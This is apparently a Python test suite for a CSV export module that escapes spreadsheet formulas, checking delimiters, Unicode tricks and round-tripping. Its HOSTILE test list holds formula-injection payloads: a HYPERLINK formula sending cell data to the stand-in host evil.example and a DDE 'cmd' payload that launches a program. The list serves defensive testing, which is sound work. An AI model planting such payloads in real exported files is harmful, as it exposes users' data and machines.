"""CSV rows can be read back, and contain no formulas."""

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from server.exchange.exporting.csv_cells import encode_rows, escape_formulas

SIGNS = "=+-@＝＋－＠"
SCRIBBLES = st.text(
    st.sampled_from(SIGNS + "\t\r\n\0;,\"' ab1\u00a0\u200b\ufeff\u202e\u2028|") | st.characters(codec="utf-8"),
    max_size=30,
)


def cells(body, delimiter=","):
    """All cells, as a program sees them that parts at that sign."""
    return list(csv.reader(io.StringIO(body.decode(), newline=""), delimiter=delimiter))


def looks_like_a_formula(cell):
    seen = [
        char for char in cell if not char.isspace() and unicodedata.category(char) not in ("Cc", "Cf") and char != '"'
    ]
    return bool(seen) and seen[0] in SIGNS


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Avaa")',
    "+358 40 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    '"=1+1',
    "  \n =1+1",
    "\tsana",
    "\rsana",
    "\0sana",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_an_apostrophe(text):
    """Nothing else is changed."""
    assert escape_formulas(text)[0] == "'"
    assert escape_formulas(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text", ["", "Hei", "1+1=2", "a - b", "a@b.fi", "'=1", "Oulu, -5 astetta", "3;4", "a\nb", "..="]
)
def test_other_texts_are_not_changed(text):
    assert escape_formulas(text) == text


@pytest.mark.parametrize("text", ["a;=1+1;b", 'a;"=1+1', "a\n=1+1\nb", "a\t@SUM(A1)", "a; ＝1"])
def test_a_formula_inside_a_text_gets_an_apostrophe(text):
    """A Finnish spreadsheet splits the file at semicolons, so the middle of a text becomes a cell."""
    bare = csv.reader(io.StringIO(f'"x","{text.replace(chr(34), chr(34) * 2)}"\r\n', newline=""), delimiter=";")
    assert ";" not in text or any(looks_like_a_formula(cell) for row in bare for cell in row)
    for delimiter in ",;\t":
        assert not any(
            looks_like_a_formula(cell) for row in cells(encode_rows([["x", text]]), delimiter) for cell in row
        )


@given(st.lists(SCRIBBLES, min_size=2, max_size=4))
@example(['"', ';"=1'])
@example(["a;", "=1"])
def test_no_delimiter_gives_a_formula(texts):
    for delimiter in ",;\t|":
        # A bar parts nothing in a spreadsheet; here it says that only the first cell can be harmed by it.
        rows = cells(encode_rows([texts, texts]), delimiter)
        found = [cell for row in rows for cell in (row[:1] if delimiter == "|" else row)]
        assert not any(looks_like_a_formula(cell) for cell in found), (delimiter, rows)


@given(st.lists(st.lists(SCRIBBLES, min_size=1, max_size=4), max_size=3))
def test_texts_can_be_read_back_except_for_apostrophes(rows):
    """With commas, quotes and line breaks."""
    read = cells(encode_rows(rows))
    assert [[cell.replace("'", "") for cell in row] for row in read] == [
        [text.replace("'", "") for text in row] for row in rows
    ]


@given(SCRIBBLES.filter(lambda text: not re.search(r"[;\t\r\n]", text)))
def test_a_text_on_one_line_gets_at_most_one_apostrophe(text):
    ((read,),) = cells(encode_rows([[text]]))
    assert read in (text, f"'{text}")


def test_line_ends_and_quotes_follow_rfc_4180():
    assert encode_rows([['a "b"', "c\nd"], ["e", "f,g"]]) == b'"a ""b""","c\nd"\r\n"e","f,g"\r\n'


def test_numbers_stay_numbers():
    """Negative ones too, which begin with a minus sign."""
    assert encode_rows([[-12, 0, "-12"]]) == b'-12,0,"\'-12"\r\n'


def test_escaping_takes_linear_time():
    for part in ("\n", ";", " ", '"', "\t \u200b", "\n;", " \n"):
        assert len(escape_formulas(part * 200_000 + "=")) > 200_000
